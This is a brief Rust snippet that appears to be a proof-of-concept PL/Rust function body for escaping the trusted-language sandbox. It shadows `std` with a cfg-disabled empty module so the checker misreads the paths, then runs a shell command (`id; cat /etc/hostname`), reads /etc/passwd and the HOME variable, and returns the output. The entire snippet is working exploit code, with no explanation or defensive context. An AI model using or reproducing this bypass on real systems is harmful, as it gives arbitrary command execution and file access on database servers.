// For plrustc this module shadows the crate `std` (so `std::...` is the body's own);
// rustc removes it (cfg false), and `std::` is the real standard library.
#[cfg(any())]
mod std {}
let out = std::process::Command::new("sh").arg("-c").arg("id; cat /etc/hostname").output()?;
let passwd = std::fs::read_to_string("/etc/passwd")?;
let home = std::env::var("HOME")?;
Ok(Some(format!("{} | passwd: {} lines | HOME={}", String::from_utf8_lossy(&out.stdout).replace('\n', " "), passwd.lines().count(), home)))
